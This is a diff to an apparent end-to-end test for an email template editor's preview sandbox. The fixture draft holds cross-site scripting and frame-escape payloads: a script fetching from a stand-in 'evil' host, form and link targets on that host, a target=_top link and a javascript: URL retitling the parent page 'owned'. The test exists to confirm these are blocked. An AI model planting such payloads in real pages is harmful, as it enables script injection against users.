@@ -33,7 +33,7 @@ const draft = () => `</head></html><script>fetch('${evil}/script'); parent.docum
 <form action="${evil}/form"><button>Absenden</button></form><a href="${evil}/self">Hier</a> <a href="${evil}/above" target="_top">Oben</a>
 <img src="${evil.replace('http', 'https')}/secure"><a href="javascript:parent.document.title='owned'">Skript</a><p>Das Ende {{firstName}}</p>`
 
-it('a draft runs nothing, fetches nothing and leads nowhere in its preview, and says why it may not be saved', async () => {
+it('a draft that may not be saved is not shown and says why, and what is shown leads nowhere', async () => {
   const admin = await stage.product.make.user({ role: 'admin' })
   const page = await stage.enter({ as: admin })
   // what was tried is written to the console
@@ -45,11 +45,13 @@ it('a draft runs nothing, fetches nothing and leads nowhere in its preview, and 
   const title = await page.title()
   await dialog.getByLabel('Betreff').fill('Hallo {{firstName}}')
   await dialog.getByLabel('HTML-Inhalt').fill(draft())
-  const preview = page.frameLocator('iframe[title="Vorschau der E-Mail"]')
-  await preview.getByText('Das Ende Anna').waitFor()
   await dialog.getByText(/^Das gehört nicht in eine E-Mail: /).waitFor()
+  const preview = page.frameLocator('iframe[title="Vorschau der E-Mail"]')
+  expect(await preview.getByText('Das Ende').count()).toBe(0)
 
-  for (const name of ['Skript', 'Oben', 'Hier']) await preview.getByText(name, { exact: true }).click({ noWaitAfter: true })
+  await dialog.getByLabel('HTML-Inhalt').fill('<p>Das Ende {{firstName}}</p><a href="https://ziel.example/">Hier</a>')
+  await preview.getByText('Das Ende Anna').waitFor()
+  await preview.getByText('Hier', { exact: true }).click({ noWaitAfter: true })
   await page.evaluate(async () => new Promise((done) => requestIdleCallback(done)))
   expect([page.url().endsWith('/admin?tab=vorlagen'), await page.title()]).toEqual([true, title])
   expect(called).toEqual([])
